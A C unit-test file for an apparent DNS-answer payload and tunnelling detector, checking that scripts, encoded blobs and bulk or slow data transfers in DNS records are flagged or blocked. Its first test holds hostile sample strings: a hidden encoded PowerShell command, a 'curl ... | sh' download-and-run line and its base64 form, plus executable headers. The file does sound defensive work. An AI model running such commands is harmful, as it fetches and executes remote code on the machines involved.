/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "answer_rig.h"

static struct detect *start(struct config **ret_config, const char *text)
{
	struct detect *d;
	*ret_config = rig_config(text);
	assert_int_equal(detect_new(*ret_config, &d), 0);
	return d;
}

static void stop(struct detect *d, struct config *c)
{
	detect_free(d);
	config_free(c);
}

static struct rig_answer r;

static void begin(const char *name, const char *zone, uint16_t type, uint64_t now_ns)
{
	rig_answer(&r, "192.0.2.1", name, zone, type, 7, now_ns);
}

static void a_script_is_blocked_whosever_it_is(void **state)
{
	(void)state;
	static const char *const texts[] = {
		"powershell -nop -w hidden -enc SQBFAFgA",
		"curl -s http://192.0.2.7/x | sh",
		/* echo "#!/bin/sh..." | base64 */
		"IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzE5Mi4wLjIuNy94IHwgc2gK",
		/* an MZ header */
		"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA",
	};
	static const char *const zones[] = { "unknown-domain.example", "wikipedia.org" };
	struct config *c;
	struct detect *d = start(&c, "detect: {}\n");
	for (size_t i = 0; i < ARRAY_LEN(texts) * ARRAY_LEN(zones); i++) {
		const char *zone = zones[i % 2];
		begin(zone, zone, DNS_TXT, NS_PER_S);
		rig_add_text(&r, "v=spf1 -all", 11);
		rig_add_text(&r, texts[i / 2], strlen(texts[i / 2]));
		const struct detect_finding *f = rig_finding(d, &r, DETECTOR_payload);
		if (f == NULL || f->confidence != DETECT_HIGH || f->action != DETECT_BLOCK)
			fail_msg("%s", texts[i / 2]);
		r.a.is_cached = true; /* and again, when it comes from the cache */
		assert_non_null(rig_finding(d, &r, DETECTOR_payload));
	}
	/* The same in a record of another type. */
	begin("x.unknown-domain.example", "unknown-domain.example", DNS_NULL, NS_PER_S);
	rig_add(&r, DNS_NULL, 0, "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0", 16);
	assert_int_equal(rig_finding(d, &r, DETECTOR_payload)->confidence, DETECT_HIGH);
	stop(d, c);
}

static void long_encoded_texts_are_told_where_anybody_may_write_them(void **state)
{
	(void)state;
	static const struct {
		const char *why, *zone;
		size_t n; /* characters of base64 */
		int confidence;
	} rows[] = {
		{ "long", "unknown-domain.example", 400, DETECT_MEDIUM },
		{ "short", "unknown-domain.example", 150, DETECT_LOW },
		{ "as long as a token", "unknown-domain.example", 60, -1 },
		{ "popular", "wikipedia.org", 400, -1 },
	};
	struct config *c;
	struct detect *d = start(&c, "detect: {payload.low: alert}\n");
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		static const char digits[] = "QzX7mPk0bT9yLr4WvH2sJd8NfG6aYc1E";
		char text[512];
		for (size_t k = 0; k < rows[i].n; k++)
			text[k] = digits[(k * 7 + k / 5) % 32];
		begin("a", rows[i].zone, DNS_TXT, NS_PER_S);
		rig_add_text(&r, text, rows[i].n);
		const struct detect_finding *f = rig_finding(d, &r, DETECTOR_payload);
		if ((f != NULL ? f->confidence : -1) != rows[i].confidence)
			fail_msg("%s: %d", rows[i].why, f != NULL ? f->confidence : -1);
		if (f != NULL && f->confidence == DETECT_MEDIUM) {
			assert_int_equal(f->action, DETECT_ALERT);
			assert_int_equal(rig_evidence(f, "encoded_bytes"), 300);
		}
	}
	stop(d, c);
}

static uint32_t dice;

/* A record of n bytes that nobody has seen before. */
static void add_data(uint16_t type, size_t n)
{
	static uint8_t bytes[65536];
	for (size_t i = 0; i < n; i++) {
		dice = dice * 1664525 + 1013904223;
		bytes[i] = (uint8_t)(dice >> 24);
	}
	rig_add(&r, type, 0, bytes, n);
}

/* How much a client is told, a kB an answer, before it is blocked. */
static uint64_t pull(struct detect *d, const char *zone, uint64_t step_ns, unsigned n)
{
	uint64_t bytes = 0;
	for (unsigned i = 0; i < n; i++) {
		struct detect_result result;
		char name[80];
		snprintf(name, sizeof name, "x%u.%s", i, zone);
		begin(name, zone, DNS_NULL, NS_PER_S + i * step_ns);
		add_data(DNS_NULL, 1000);
		detect_answer(d, &r.a, &result);
		if (result.outcome == DETECT_PASS)
			bytes += 1000;
	}
	return bytes;
}

static void bulk_is_stopped(void **state)
{
	(void)state;
	struct config *c;
	struct detect *d = start(&c, "detect: {}\n");
	/* Three budgets of 8 KiB have been asked for, then no more. */
	uint64_t bytes = pull(d, "drop.example", NS_PER_MS, 1000);
	assert_in_range(bytes, 8192, 3 * 8192 + 1000);
	/* Where an alert is not enough, at the budget. */
	stop(d, c);
	d = start(&c, "detect: {payload.medium: block}\n");
	bytes = pull(d, "drop.example", NS_PER_MS, 1000);
	assert_in_range(bytes, 7000, 8192);
	/* A popular domain may tell a hundred times as much. */
	assert_int_equal(pull(d, "wikipedia.org", NS_PER_MS, 700), 700000);
	stop(d, c);
}

static void slowly_no_more_than_the_rate_comes_in(void **state)
{
	(void)state;
	struct config *c;
	struct detect *d = start(&c, "detect: {payload.medium: block}\n");
	/* Ten minutes apart for a week. */
	uint64_t bytes = pull(d, "drop.example", 600 * NS_PER_S, 7 * 144);
	assert_in_range(bytes, 7 * 3500, 8192 + 7 * 4096);
	stop(d, c);
}

static void the_same_again_is_not_counted(void **state)
{
	(void)state;
	struct config *c;
	struct detect *d = start(&c, "detect: {payload.low: alert}\n");
	begin("big.example", "big.example", DNS_NULL, NS_PER_S);
	add_data(DNS_NULL, 4000);
	for (unsigned i = 0; i < 100; i++) {
		r.a.now_ns += NS_PER_S;
		assert_null(rig_finding(d, &r, DETECTOR_payload));
	}
	stop(d, c);
}

/* What names tell beyond the question's own; addresses and known purposes weigh little. */
static void what_counts_is_information(void **state)
{
	(void)state;
	static const char name[] = "www.some-shop.example";
	struct config *c;
	struct detect *d = start(&c, "detect: {payload.low: alert, payload.burst: 1000}\n");
	for (unsigned i = 0; i < 200; i++) {
		begin(name, "some-shop.example", DNS_A, NS_PER_S);
		rig_add_name(&r, DNS_CNAME, "some-shop.example");
		rig_add_address(&r, "192.0.2.80", 60);
		assert_null(rig_finding(d, &r, DETECTOR_payload));
	}
	unsigned n = 0;
	for (; n < 100; n++) {
		char target[100];
		dice = dice * 1664525 + 1013904223;
		snprintf(target, sizeof target, "%08x%08x%08x%08x.t.example", dice, dice ^ n,
		         dice * 7, dice * 13);
		begin("q.t.example", "t.example", DNS_CNAME, NS_PER_S);
		rig_add_name(&r, DNS_CNAME, target);
		if (rig_finding(d, &r, DETECTOR_payload) != NULL)
			break;
	}
	/* 32 digits are some 20 bytes. */
	assert_in_range(n, 30, 50);
	stop(d, c);
}

/* Small records hide a large one behind the last that is looked at. */
static void what_is_behind_counts_too(void **state)
{
	(void)state;
	struct config *c;
	struct detect *d = start(&c, "detect: {}\n");
	begin("m.example", "m.example", DNS_NULL, NS_PER_S);
	for (unsigned i = 0; i < DETECT_RECORDS_MAX; i++)
		add_data(DNS_NULL, 2);
	r.a.n_more = 3;
	r.a.n_bytes = 60000;
	const struct detect_finding *f = rig_finding(d, &r, DETECTOR_payload);
	assert_non_null(f);
	assert_int_equal(rig_evidence(f, "bytes"), 60000);
	stop(d, c);
}

/* Nothing that a hundred thousand decoys tell makes the debt go away; nor does it take memory. */
static void decoys_change_nothing(void **state)
{
	(void)state;
	struct config *c;
	struct detect *d = start(&c, "detect: {payload.medium: block, clients: 100}\n");
	size_t size = detect_bytes(d);
	uint64_t bytes = pull(d, "drop.example", NS_PER_MS, 100);
	for (unsigned i = 0; i < 100000; i++) {
		struct detect_result result;
		char zone[40];
		snprintf(zone, sizeof zone, "decoy%u.example", i);
		begin(zone, zone, DNS_NULL, 2 * NS_PER_S);
		add_data(DNS_NULL, 10);
		detect_answer(d, &r.a, &result);
	}
	bytes += pull(d, "drop.example", NS_PER_MS, 100);
	assert_in_range(bytes, 7000, 2 * 8192);
	assert_int_equal(detect_bytes(d), size);
	stop(d, c);
}

static void the_memory_is_small(void **state)
{
	(void)state;
	struct config *c, *without_c;
	struct detect *d = start(&c, "detect: {}\n");
	struct detect *without = start(&without_c, "detect: {payload.enable: false}\n");
	(void)without;
	assert_true(detect_bytes(d) <= 64 << 20);
	stop(without, without_c);
	stop(d, c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_script_is_blocked_whosever_it_is),
		cmocka_unit_test(long_encoded_texts_are_told_where_anybody_may_write_them),
		cmocka_unit_test(bulk_is_stopped),
		cmocka_unit_test(slowly_no_more_than_the_rate_comes_in),
		cmocka_unit_test(the_same_again_is_not_counted),
		cmocka_unit_test(what_counts_is_information),
		cmocka_unit_test(what_is_behind_counts_too),
		cmocka_unit_test(decoys_change_nothing),
		cmocka_unit_test(the_memory_is_small),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
